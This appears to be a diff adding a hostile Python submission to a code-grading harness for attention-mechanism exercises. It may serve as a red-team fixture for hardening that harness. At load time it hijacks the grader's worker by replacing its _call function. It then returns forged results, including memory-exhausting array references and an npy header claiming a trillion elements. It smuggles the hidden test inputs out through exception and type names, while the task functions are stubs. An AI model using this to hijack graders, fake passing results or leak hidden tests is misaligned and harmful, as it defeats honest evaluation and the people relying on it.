@@ -1,0 +1,70 @@
+# Takes over the worker it runs in (a submission shares the worker's process) and answers the
+# grader with forged values: an array named thousands of times, an array header that claims a huge
+# shape, and exception names, dtype kinds and type names that carry the hidden inputs.
+import sys
+
+import numpy as np
+
+worker = sys.modules["__main__"]
+original_call = worker._call
+
+
+def _secret(header, blobs):
+    args = worker.decode_value(header.get("args", []), blobs)
+    return "SECRET " + repr([a.tolist() if hasattr(a, "tolist") else a for a in args])[:3000]
+
+
+def _npy(shape_text, data):
+    header = "{'descr': '<f8', 'fortran_order': False, 'shape': %s, }" % shape_text
+    header = header + " " * (63 - (len(header) + 10) % 64) + "\n"
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + data
+
+
+def forged(namespace, header, blobs):
+    name = header["name"]
+    if name == "softmax":  # 3,000 references to one 1 MiB array: 3 GB if each were decoded
+        blob = _npy("(131072,)", bytes(8 * 131072))
+        return {"ok": True, "value": [{"$npy": 0}] * 3000}, [blob]
+    if name == "scaled_dot_product_attention":  # a trillion float64s claimed, eight bytes sent
+        return {"ok": True, "value": {"$tuple": [{"$npy": 0}, {"$npy": 1}]}}, [
+            _npy("(1000000000000,)", bytes(8)),
+            _npy("(2, 3)", bytes(8)),
+        ]
+    if name == "saturation":
+        secret = _secret(header, blobs)
+        return {"ok": False, "error": {"type": secret, "own_class": True, "line": secret}}, []
+    if name == "self_attention":
+        return {"ok": True, "value": {"$rejected": "dtype", "kind": _secret(header, blobs)}}, []
+    if name == "multi_head_attention":
+        return {"ok": True, "value": {"$rejected": "object", "type": _secret(header, blobs)}}, []
+    return original_call(namespace, header, blobs)
+
+
+worker._call = forged
+
+
+def positional_encoding(n_positions, d_model):
+    positions = np.arange(n_positions)[:, None]
+    rates = 1.0 / 10000 ** (2 * (np.arange(d_model) // 2) / d_model)
+    angles = positions * rates
+    return np.where(np.arange(d_model) % 2 == 0, np.sin(angles), np.cos(angles))
+
+
+def softmax(x, axis=-1):
+    return x
+
+
+def scaled_dot_product_attention(Q, K, V, mask=None):
+    return Q, K
+
+
+def saturation(d, n=16, trials=200, scaled=True, seed=0):
+    return 0.5
+
+
+def self_attention(X, W_q, W_k, W_v):
+    return X, X
+
+
+def multi_head_attention(X, W_q, W_k, W_v, W_o, n_heads):
+    return X
